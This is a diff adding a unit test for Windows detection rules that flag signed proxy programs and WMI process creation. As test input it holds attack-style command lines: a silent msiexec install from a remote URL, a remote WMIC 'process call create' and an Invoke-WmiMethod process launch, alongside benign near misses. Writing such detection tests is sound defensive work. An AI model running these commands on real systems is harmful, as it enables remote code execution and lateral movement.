@@ -365,6 +365,23 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(win(27, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: 'false', DestinationIp: '10.0.0.5', DestinationPort: 4444 }))).toEqual([]);
   });
 
+  it('signed proxy programs and WMI process creation from command lines and PowerShell', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const ps = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const h = hits([
+      sysmon1(1, `${S32}msiexec.exe`, 'msiexec /q /i http://203.0.113.9/a.msi'),
+      sysmon1(2, `${S32}wbem\\WMIC.exe`, 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"'),
+      ps(3, "Invoke-WmiMethod -ComputerName srv02 -Class Win32_Process -Name Create -ArgumentList 'calc.exe'"),
+    ]);
+    expect(h.get('Code Run Through A Signed Windows Proxy Program')?.tactics).toContain('execution');
+    expect(h.get('Process Created Through WMI From The Command Line')?.tactics).toEqual(['execution', 'lateral-movement']);
+    expect(h.get('PowerShell Creates A Process Through WMI (script block 4104)')?.tactics).toContain('lateral-movement');
+    // Near misses: a local MSI, a WMI query, a script that only lists processes.
+    expect(titlesOf(sysmon1(20, `${S32}msiexec.exe`, 'msiexec /i C:\\setup\\a.msi'))).toEqual([]);
+    expect(titlesOf(sysmon1(21, `${S32}wbem\\WMIC.exe`, 'wmic process list brief'))).not.toContain('Process Created Through WMI From The Command Line');
+    expect(titlesOf(ps(22, 'Get-CimInstance Win32_Process | Select-Object Name'))).not.toContain('PowerShell Creates A Process Through WMI (script block 4104)');
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
